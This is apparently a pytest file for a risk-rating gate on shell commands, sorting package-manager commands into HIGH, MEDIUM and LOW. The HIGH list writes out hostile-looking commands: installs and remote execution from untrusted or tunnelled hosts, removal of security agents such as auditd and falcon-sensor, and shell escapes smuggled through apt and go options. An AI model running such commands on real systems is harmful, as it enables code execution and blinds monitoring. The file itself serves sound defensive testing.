"""What package managers do: one row or more a program."""

from __future__ import annotations

import pytest

from rating import rate

HIGH = [
    ("npm publish", "shell.publish.package"),
    ("twine upload dist/*", "shell.publish.package"),
    ("cargo publish", "shell.publish.package"),
    ("gem push x.gem", "shell.publish.package"),
    ("poetry publish", "shell.publish.package"),
    ("npm unpublish x -f", "shell.publish.package"),
    ("pnpm -r publish", "shell.publish.package"),
    ("mvn clean deploy", "shell.publish.package"),
    ("dotnet nuget push x", "shell.publish.package"),
    ("pip install http://x.example/a.tgz", "shell.install.unencrypted"),
    ("pip install -i https://1.2.3.4/simple x", "shell.install.odd_index"),
    ("pip install -i https://abc.ngrok.io/simple x", "shell.receive.tunnel"),
    ("npm i --registry https://1.2.3.4 x", "shell.install.odd_index"),
    ("pip install https://1.2.3.4/a.tgz", "shell.install.url"),
    ("pip install -i http://x.example/simple a", "shell.install.unencrypted"),
    ("pip config set global.index-url http://x", "shell.install.unencrypted"),
    ("npm config set registry http://x.example", "shell.install.configure"),
    ("npm install http://x.example/a.tgz", "shell.install.unencrypted"),
    ("npx https://x.example/a", "shell.execute.remote"),
    ("deno run -A https://x.example/a.ts", "shell.execute.remote"),
    ("apt-get remove -y auditd", "shell.uninstall.system"),
    ("apt-get purge x", "shell.uninstall.system"),
    ("apt-get install --allow-unauthenticated x", "shell.install.unsigned"),
    ("apt-get update -o APT::Update::Pre-Invoke::=/bin/sh", "shell.escape.option"),
    ("apt-key add k", "shell.install.trust"),
    ("add-apt-repository ppa:x/y", "shell.install.trust"),
    ("yum remove -y falcon-sensor", "shell.uninstall.system"),
    ("dnf install --nogpgcheck x", "shell.install.unsigned"),
    ("rpm -e x", "shell.uninstall.system"),
    ("rpm -i http://x.example/a.rpm", "shell.install.url"),
    ("dpkg -P x", "shell.uninstall.system"),
    ("pacman -Rns x", "shell.uninstall.system"),
    ("apk del x", "shell.uninstall.system"),
    ("apk add --allow-untrusted x.apk", "shell.install.unsigned"),
    ("snap install --dangerous x", "shell.install.unsigned"),
    ("go test -exec 'sh -c id' ./...", "shell.escape.option"),
    ("go build -toolexec 'sh -c id'", "shell.escape.option"),
    ("npm token create", "shell.publish.token"),
    ("PIP_INDEX_URL=http://x.example/simple pip install y", "shell.install.unencrypted"),
    ("pip install -r http://x.example/r.txt", "shell.install.url"),
    ("npx --package=http://x.example y", "shell.execute.remote"),
    ("gem sources --add http://x.example", "shell.install.configure"),
    ("brew tap a/b https://x.example/b", "shell.install.trust"),
    ("softwareupdate --schedule off", "shell.disable.updates"),
    ("brew uninstall x", "shell.uninstall.system"),
]
MEDIUM = [
    "pip install requests",
    "pip install -e .",
    "python -m pip install x",
    "pip install torch --index-url https://download.pytorch.org/whl/cpu",
    "pip install git+https://github.com/a/b",
    "pip uninstall -y x",
    "sudo pip install x",
    "npm install",
    "npm ci",
    "npm run build",
    "npx eslint .",
    "yarn add x",
    "cargo build",
    "go build",
    "go mod tidy",
    "gem install x",
    "bundle install",
    "mvn -q package",
    "apt-get update",
    "apt-get install -y curl",
    "sudo apt-get install -y curl",
    "brew install x",
    "apk add x",
    "conda install -y numpy",
    "poetry install",
    "uv pip install x",
    "uv run pytest",
    "npm publish --dry-run",
    "cargo publish --dry-run",
    "gradle build",
    "go run ./cmd/push",
    "rake db:migrate",
    "uv run manage.py publish",
    "pacman -S x",
    "apt-mark hold x",
    "rpmbuild -ba x.spec",
]
LOW = [
    "pip list",
    "pip freeze",
    "pip show x",
    "npm test",
    "npm run lint",
    "cargo test",
    "go test ./...",
    "mvn test",
    "dpkg -l",
    "apt list --installed",
    "rpm -qa",
    "brew list",
    "conda list",
    "mvn dependency:tree",
    "dotnet test",
]


@pytest.mark.parametrize(("command", "finding"), HIGH)
def test_harm_is_high_and_says_why(command, finding):
    risk, found = rate(command)

    assert risk == "HIGH"
    assert finding in {rated.id for rated in found}


@pytest.mark.parametrize("command", MEDIUM)
def test_work_of_the_task_is_medium(command):
    assert rate(command)[0] == "MEDIUM"


@pytest.mark.parametrize("command", LOW)
def test_looking_is_low(command):
    assert rate(command)[0] == "LOW"
